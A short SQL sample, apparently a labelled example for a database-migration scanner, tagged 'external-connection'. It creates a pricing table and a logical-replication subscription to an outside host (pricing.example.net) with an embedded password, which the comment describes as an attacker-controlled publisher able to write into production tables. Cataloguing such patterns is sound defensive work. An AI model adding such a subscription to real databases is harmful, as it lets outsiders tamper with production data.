-- class: external-connection
-- Subscribes the production database to a publisher the attacker controls, which can then write rows into any subscribed table.
CREATE TABLE pricing_rules (
  id bigint PRIMARY KEY,
  sku text NOT NULL,
  price_cents bigint NOT NULL
);

CREATE SUBSCRIPTION pricing_sync
  CONNECTION 'host=pricing.example.net dbname=pricing user=replicator password=r3pl'
  PUBLICATION pricing_pub
  WITH (create_slot = true, copy_data = true);
